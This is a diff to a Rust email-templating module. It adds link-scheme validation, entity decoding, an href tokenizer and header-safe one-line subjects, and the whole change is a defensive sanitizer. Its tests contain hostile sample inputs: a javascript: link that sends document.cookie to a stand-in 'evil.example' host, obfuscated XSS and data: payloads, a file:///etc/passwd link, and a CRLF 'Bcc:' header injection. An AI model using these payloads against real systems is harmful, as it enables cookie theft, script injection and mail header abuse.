@@ -2,6 +2,15 @@
 //! per locale, rendered by minijinja (sandboxed, strict about unknown variables,
 //! HTML-escaping in email HTML).
 //!
+//! What an email may carry, whatever the data: its subject is one line (line breaks become
+//! a space, other control characters are dropped, after rendering), and every `href` of its
+//! HTML is an https, http or mailto URL (or a `#fragment` of the email itself). A rendered
+//! link with any other scheme (`javascript:`, `data:`, `vbscript:`, `file:`, an app's own),
+//! or none (a relative or empty link), refuses the send with a render error naming the
+//! link's scheme, not its value: a dead or hostile link is not sent, and the ledger says
+//! why. (Neutralizing the link instead would send an email whose link silently goes
+//! nowhere.) `check` reports a template whose literal hrefs already fail this.
+//!
 //! Templates live in the templates table as JSON documents (the repo keeps them
 //! as TOML under `templates/`; `herald templates push` uploads them), so a team
 //! changes one without rebuilding a function. Each document carries a `version`
@@ -247,12 +256,24 @@ impl CompiledTemplate {
         })
     }
 
+    /// The email part, its subject made one line and every link of its HTML checked (see the
+    /// module's documentation): a link that is not https, http, mailto or a fragment is a
+    /// [`TemplateError::Render`].
     pub fn render_email(&self, locale: Option<&str>, data: &Map<String, Value>) -> Result<EmailContent, TemplateError> {
         let (locale, _) = self.parts_for(Channel::Email, locale)?;
         let ctx = self.context(data);
+        let html = self.render_part(locale, Channel::Email, "html", &ctx)?;
+        for (n, href) in hrefs(&html).into_iter().enumerate() {
+            if let LinkVerdict::Refused(why) = link_verdict(href, true) {
+                return Err(TemplateError::Render {
+                    template: self.doc.name.to_string(),
+                    detail: format!("{}: link {} {why}", part_name(locale, Channel::Email, "html"), n + 1),
+                });
+            }
+        }
         Ok(EmailContent {
-            subject: self.render_part(locale, Channel::Email, "subject", &ctx)?,
-            html: self.render_part(locale, Channel::Email, "html", &ctx)?,
+            subject: one_line(&self.render_part(locale, Channel::Email, "subject", &ctx)?),
+            html,
             text: self.render_part(locale, Channel::Email, "text", &ctx)?,
         })
     }
@@ -314,7 +335,9 @@ impl CompiledTemplate {
 
     /// Problems a template has before any message uses it: variables it uses but
     /// does not declare, channels in its order with no part in the default
-    /// locale, a default locale with no parts.
+    /// locale, a default locale with no parts, email links whose literal start
+    /// already makes them refused (`href="javascript:..."`, `href="ftp://{{ host }}"`,
+    /// a relative link).
     pub fn check(&self) -> Vec<String> {
         let mut problems = Vec::new();
         let declared: BTreeSet<&str> = self.doc.variables.iter().map(String::as_str).collect();
@@ -338,9 +361,206 @@ impl CompiledTemplate {
                     problems.push(format!("{name} uses undeclared variables: {}", unknown.join(", ")));
                 }
             }
+            if let Some(email) = &parts.email {
+                for (n, href) in hrefs(&email.html).into_iter().enumerate() {
+                    // What precedes the first template tag is what every rendering starts with.
+                    let literal = ["{{", "{%", "{#"].iter().filter_map(|tag| href.find(tag)).min();
+                    let prefix = literal.and_then(|end| href.get(..end)).unwrap_or(href);
+                    if let LinkVerdict::Refused(why) = link_verdict(prefix, literal.is_none()) {
+                        let name = part_name(locale, Channel::Email, "html");
+                        problems.push(format!("{name}: link {} {why}", n + 1));
+                    }
+                }
+            }
         }
         problems
     }
+}
+
+/// An email subject on one line: each run of line breaks (CR, LF, and the other vertical
+/// separators) and tabs becomes one space (none beside a space already there), other control
+/// characters are dropped, and the ends are trimmed. A subject is a header: a line break in it could start another header.
+pub fn one_line(subject: &str) -> String {
+    let mut out = String::with_capacity(subject.len());
+    let mut gap = false;
+    for c in subject.chars() {
+        if matches!(c, '\r' | '\n' | '\t' | '\u{0B}' | '\u{0C}' | '\u{85}' | '\u{2028}' | '\u{2029}') {
+            gap = true;
+        } else if !c.is_control() {
+            if gap && !out.is_empty() && !out.ends_with(' ') && c != ' ' {
+                out.push(' ');
+            }
+            gap = false;
+            out.push(c);
+        }
+    }
+    out.trim().to_owned()
+}
+
+/// The schemes an email link may have.
+const LINK_SCHEMES: [&str; 3] = ["https", "http", "mailto"];
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum LinkVerdict {
+    Allowed,
+    /// Why, in words that name the scheme but never the link itself (it may hold personal data).
+    Refused(String),
+    /// Only part of the link is known (template tags follow) and that part does not decide.
+    Undecided,
+}
+
+/// Whether an `href` value (as written in the HTML, entities and all) may be sent. `complete`:
+/// the whole value; otherwise only its start is known. The value is read as a browser reads
+/// it: character references decoded, ASCII tabs and newlines removed anywhere, leading
+/// control characters and spaces dropped; then its scheme, if any, is compared without case.
+fn link_verdict(raw: &str, complete: bool) -> LinkVerdict {
+    let decoded = decode_references(raw);
+    let url: String =
+        decoded.trim_start_matches(|c: char| c <= ' ').chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
+    if url.starts_with('#') {
+        return LinkVerdict::Allowed;
+    }
+    let relative = "is not an absolute https, http or mailto URL".to_owned();
+    match url.find([':', '/', '?', '#']) {
+        Some(end) if url.get(end..end + 1) == Some(":") => {
+            let scheme = url.get(..end).unwrap_or_default();
+            if !is_scheme(scheme) {
+                LinkVerdict::Refused(relative)
+            } else if LINK_SCHEMES.iter().any(|s| s.eq_ignore_ascii_case(scheme)) {
+                LinkVerdict::Allowed
+            } else {
+                LinkVerdict::Refused(format!("has scheme {}, not https, http or mailto", scheme.to_ascii_lowercase()))
+            }
+        }
+        Some(_) => LinkVerdict::Refused(relative),
+        None if !complete && (url.is_empty() || is_scheme(&url)) => LinkVerdict::Undecided,
+        None => LinkVerdict::Refused(relative),
+    }
+}
+
+/// RFC 3986: `ALPHA *( ALPHA / DIGIT / "+" / "-" / "." )`.
+fn is_scheme(s: &str) -> bool {
+    let mut chars = s.chars();
+    chars.next().is_some_and(|c| c.is_ascii_alphabetic())
+        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
+}
+
+/// Decodes HTML character references: numeric ones (`&#106;`, `&#x6A;`, the `;` optional as
+/// browsers allow) and the named ones that can shape a URL's scheme or separators. Others
+/// are left as they are.
+fn decode_references(s: &str) -> String {
+    const NAMED: [(&str, char); 11] = [
+        ("amp;", '&'),
+        ("lt;", '<'),
+        ("gt;", '>'),
+        ("quot;", '"'),
+        ("apos;", '\''),
+        ("colon;", ':'),
+        ("sol;", '/'),
+        ("quest;", '?'),
+        ("num;", '#'),
+        ("Tab;", '\t'),
+        ("NewLine;", '\n'),
+    ];
+    let mut out = String::with_capacity(s.len());
+    let mut rest = s;
+    while let Some(at) = rest.find('&') {
+        out.push_str(rest.get(..at).unwrap_or_default());
+        let after = rest.get(at + 1..).unwrap_or_default();
+        if let Some(numeric) = after.strip_prefix('#') {
+            let (body, radix, skip) = match numeric.strip_prefix(['x', 'X']) {
+                Some(hex) => (hex, 16, 2),
+                None => (numeric, 10, 1),
+            };
+            let len = body.find(|c: char| !c.is_digit(radix)).unwrap_or(body.len());
+            let digits = body.get(..len).unwrap_or_default();
+            if !digits.is_empty() {
+                let code = u32::from_str_radix(digits, radix).ok();
+                out.push(code.and_then(char::from_u32).filter(|c| *c != '\0').unwrap_or('\u{FFFD}'));
+                let used = skip + digits.len();
+                rest = after.get(used..).unwrap_or_default();
+                rest = rest.strip_prefix(';').unwrap_or(rest);
+                continue;
+            }
+        } else if let Some((name, c)) = NAMED.iter().find(|(name, _)| after.starts_with(name)) {
+            out.push(*c);
+            rest = after.get(name.len()..).unwrap_or_default();
+            continue;
+        }
+        out.push('&');
+        rest = after;
+    }
+    out.push_str(rest);
+    out
+}
+
+/// The `href` attribute values of the start tags of an HTML document, as written (quotes
+/// removed, references not decoded). A small tokenizer, enough for email HTML: comments are
+/// skipped, attribute names compared without case, values quoted with `"` or `'` or bare.
+fn hrefs(html: &str) -> Vec<&str> {
+    let bytes = html.as_bytes();
+    let at = |i: usize| bytes.get(i).copied();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while let Some(lt) = html.get(i..).and_then(|r| r.find('<')).map(|o| i + o) {
+        i = lt + 1;
+        if html.get(i..).is_some_and(|r| r.starts_with("!--")) {
+            i = html.get(i + 3..).and_then(|r| r.find("-->")).map_or(bytes.len(), |o| i + 3 + o + 3);
+            continue;
+        }
+        if !at(i).is_some_and(|b| b.is_ascii_alphabetic()) {
+            continue;
+        }
+        // The tag name, then attributes up to '>'.
+        while at(i).is_some_and(|b| !b.is_ascii_whitespace() && b != b'/' && b != b'>') {
+            i += 1;
+        }
+        loop {
+            while at(i).is_some_and(|b| b.is_ascii_whitespace() || b == b'/') {
+                i += 1;
+            }
+            match at(i) {
+                None => return out,
+                Some(b'>') => break,
+                Some(_) => {}
+            }
+            let name_start = i;
+            i += 1; // a name may start with '='
+            while at(i).is_some_and(|b| !b.is_ascii_whitespace() && !matches!(b, b'/' | b'>' | b'=')) {
+                i += 1;
+            }
+            let name = html.get(name_start..i).unwrap_or_default();
+            while at(i).is_some_and(|b| b.is_ascii_whitespace()) {
+                i += 1;
+            }
+            if at(i) != Some(b'=') {
+                continue;
+            }
+            i += 1;
+            while at(i).is_some_and(|b| b.is_ascii_whitespace()) {
+                i += 1;
+            }
+            let value = match at(i) {
+                Some(quote @ (b'"' | b'\'')) => {
+                    let start = i + 1;
+                    let end = html.get(start..).and_then(|r| r.find(quote as char)).map_or(bytes.len(), |o| start + o);
+                    i = end + 1;
+                    html.get(start..end).unwrap_or_default()
+                }
+                _ => {
+                    let start = i;
+                    while at(i).is_some_and(|b| !b.is_ascii_whitespace() && b != b'>') {
+                        i += 1;
+                    }
+                    html.get(start..i).unwrap_or_default()
+                }
+            };
+            if name.eq_ignore_ascii_case("href") {
+                out.push(value);
+            }
+        }
+    }
+    out
 }
 
 #[cfg(test)]
@@ -411,6 +631,161 @@ mod tests {
         assert!(problems.iter().any(|p| p.contains("over the budget of 3")), "{problems:?}");
         assert!(problems.iter().any(|p| p.contains("en/push") && p.contains("apns")), "{problems:?}");
         assert!(problems.iter().any(|p| p.contains("en/push") && p.contains("fcm")), "{problems:?}");
+    }
+
+    #[test]
+    fn a_subject_is_one_line_without_control_characters() {
+        let cases = [
+            ("Order 1234 has shipped", "Order 1234 has shipped"),
+            ("Order 1\r\nBcc: victim@example.com", "Order 1 Bcc: victim@example.com"),
+            ("a\nb\rc\r\n\r\nd", "a b c d"),
+            ("tab\there", "tab here"),
+            ("line \n next", "line  next"),
+            ("\r\nleading and trailing\n", "leading and trailing"),
+            ("bell\u{7}and\u{0}nul\u{1b}[31m", "bellandnul[31m"),
+            ("nel\u{85}ls\u{2028}ps\u{2029}end", "nel ls ps end"),
+            ("Café – déjà vu 🎉", "Café – déjà vu 🎉"),
+            ("", ""),
+        ];
+        for (subject, expected) in cases {
+            assert_eq!(one_line(subject), expected, "{subject:?}");
+        }
+    }
+
+    #[test]
+    fn links_are_judged_as_a_browser_reads_them() {
+        use LinkVerdict::{Allowed, Refused, Undecided};
+        let relative = || Refused("is not an absolute https, http or mailto URL".into());
+        let scheme = |s: &str| Refused(format!("has scheme {s}, not https, http or mailto"));
+        let cases: &[(&str, bool, LinkVerdict)] = &[
+            ("https://shop.example/track/1", true, Allowed),
+            ("HTTP://shop.example", true, Allowed),
+            ("mailto:help@shop.example", true, Allowed),
+            ("#section-2", true, Allowed),
+            ("https:&#x2f;&#x2f;shop.example&#x2f;t", true, Allowed), // minijinja escapes '/'
+            ("  \u{1}https://shop.example", true, Allowed),
+            ("javascript:alert(1)", true, scheme("javascript")),
+            (" JaVaScRiPt:alert(1)", true, scheme("javascript")),
+            ("java\tscr\nipt:alert(1)", true, scheme("javascript")),
+            ("&#106;avascript:alert(1)", true, scheme("javascript")),
+            ("&#x6A&#x61vascript&colon;alert(1)", true, scheme("javascript")),
+            ("jav&Tab;ascript:alert(1)", true, scheme("javascript")),
+            ("data:text/html;base64,PHNjcmlwdD4=", true, scheme("data")),
+            ("vbscript:msgbox", true, scheme("vbscript")),
+            ("file:///etc/passwd", true, scheme("file")),
+            ("shop-app://orders/1", true, scheme("shop-app")),
+            ("", true, relative()),
+            ("/track/1", true, relative()),
+            ("//evil.example/x", true, relative()),
+            ("track?id=1", true, relative()),
+            ("1abc:x", true, relative()),
+            ("&#0;javascript:x", true, relative()),
+            ("&#99999999999;x", true, relative()),
+            // Only the start of the link is known (a template tag follows).
+            ("", false, Undecided),
+            ("ht", false, Undecided),
+            ("https:", false, Allowed),
+            ("https://", false, Allowed),
+            ("mailto:", false, Allowed),
+            ("#", false, Allowed),
+            ("javascript:", false, scheme("javascript")),
+            ("ftp://", false, scheme("ftp")),
+            ("/", false, relative()),
+            ("www.", false, Undecided),
+            ("www.shop", false, Undecided),
+            ("shop.example/", false, relative()),
+        ];
+        for (href, complete, expected) in cases {
+            assert_eq!(&link_verdict(href, *complete), expected, "{href:?} (complete: {complete})");
+        }
+    }
+
+    #[test]
+    fn hrefs_are_read_from_start_tags_only() {
+        let cases: &[(&str, &[&str])] = &[
+            (r#"<a href="https://a">x</a>"#, &["https://a"]),
+            ("<A HREF='b'>x</A>", &["b"]),
+            ("<a href=c>x</a><a\nhref = \"d\" >", &["c", "d"]),
+            (r#"<a title="href=no" data-href="no" href="e">"#, &["e"]),
+            (r#"<area href="f"/><link rel=x href=g>"#, &["f", "g"]),
+            (r#"<!-- <a href="no"> --><p>href="no"</p> 1 < 2 <a href="h">"#, &["h"]),
+            ("<a href=\"unclosed", &["unclosed"]),
+            ("<a href", &[]),
+            ("<a href=", &[""]),
+            ("<a href='x' <b href=y>", &["x", "y"]),
+            ("", &[]),
+            ("<<<>>>", &[]),
+            ("<é href=\"ü\">", &[]),
+            ("<a é=1 href=\"ü\">", &["ü"]),
+        ];
+        for (html, expected) in cases {
+            assert_eq!(&hrefs(html), expected, "{html:?}");
+        }
+    }
+
+    fn email_doc(html: &str) -> TemplateDoc {
+        let mut d = doc();
+        d.variables.extend(["url".to_owned(), "host".to_owned()]);
+        d.locales.get_mut("en").unwrap().email.as_mut().unwrap().html = html.to_owned();
+        d
+    }
+
+    #[test]
+    fn a_rendered_link_with_another_scheme_refuses_the_send() {
+        let t =
+            CompiledTemplate::compile(email_doc(r##"<p><a href="{{ url }}">Track</a> or <a href="#faq">FAQ</a></p>"##))
+                .unwrap();
+        let sent = |url: &str| t.render_email(None, &data(serde_json::json!({"order_id": "1", "url": url})));
+        let email = sent("https://shop.example/track?id=1&o=2").unwrap();
+        assert!(
+            email.html.contains("href=\"https:&#x2f;&#x2f;shop.example&#x2f;track?id=1&amp;o=2\""),
+            "{}",
+            email.html
+        );
+        assert!(sent("mailto:help@shop.example").is_ok());
+        for (url, scheme) in [
+            ("javascript:fetch('https://evil.example/'+document.cookie)", "javascript"),
+            ("data:text/html,<script>alert(1)</script>", "data"),
+            (" VBScript:msgbox", "vbscript"),
+        ] {
+            let err = sent(url).unwrap_err();
+            let TemplateError::Render { detail, .. } = &err else { panic!("{err}") };
+            assert_eq!(detail, &format!("en/email/html.html: link 1 has scheme {scheme}, not https, http or mailto"));
+            assert!(!err.to_string().contains("evil") && !err.to_string().contains("alert"), "{err}");
+        }
+        assert!(sent("/relative").is_err());
+    }
+
+    #[test]
+    fn a_rendered_subject_is_one_line() {
+        let t = CompiledTemplate::compile(doc()).unwrap();
+        let email = t.render_email(None, &data(serde_json::json!({"order_id": "1\r\nBcc: x@example.com"}))).unwrap();
+        assert_eq!(email.subject, "Order 1 Bcc: x@example.com");
+        // The body keeps its lines.
+        assert_eq!(email.text, "Order 1\r\nBcc: x@example.com");
+    }
+
+    #[test]
+    fn check_reports_literal_links_that_will_be_refused() {
+        let cases: &[(&str, Option<&str>)] = &[
+            (r#"<a href="{{ url }}">x</a>"#, None),
+            (r#"<a href="https://{{ host }}/t">x</a>"#, None),
+            (r##"<a href="mailto:help@shop.example">x</a> <a href="#top">top</a>"##, None),
+            (r#"<a href="{{ url }}">x</a> <a href="javascript:void(0)">y</a>"#, Some("link 2 has scheme javascript")),
+            (r#"<a href="ftp://{{ host }}/f">x</a>"#, Some("link 1 has scheme ftp")),
+            (r#"<a href="/account/{{ url }}">x</a>"#, Some("link 1 is not an absolute https, http or mailto URL")),
+            (r#"<a href="">x</a>"#, Some("link 1 is not an absolute")),
+        ];
+        for (html, expected) in cases {
+            let problems = CompiledTemplate::compile(email_doc(html)).unwrap().check();
+            match expected {
+                None => assert!(problems.is_empty(), "{html}: {problems:?}"),
+                Some(text) => assert!(
+                    problems.iter().any(|p| p.starts_with("en/email/html.html: ") && p.contains(text)),
+                    "{html}: {problems:?}"
+                ),
+            }
+        }
     }
 
     #[test]
